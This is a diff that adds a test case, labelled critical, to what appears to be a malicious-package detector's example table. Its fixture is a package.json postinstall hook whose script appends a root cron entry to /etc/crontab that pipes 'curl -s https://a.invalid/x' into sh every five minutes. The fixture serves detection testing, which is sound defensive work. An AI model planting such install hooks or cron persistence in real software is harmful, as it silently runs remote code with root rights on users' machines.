@@ -41,6 +41,21 @@ require("https").get("https://files.invalid/tool", (res) => {
             )],
         },
         Example {
+            name: "a schedule that code writes runs what it fetches",
+            severity: Some(Severity::Critical),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const line = ["*/5 * * * *", "root", "curl -s https://a.invalid/x | sh"];
+require("fs").appendFileSync("/etc/crontab", line.join(" ") + "\n");"#,
+                ),
+            ],
+        },
+        Example {
             name: "an answer names the version that git checks out",
             severity: None,
             files: &[
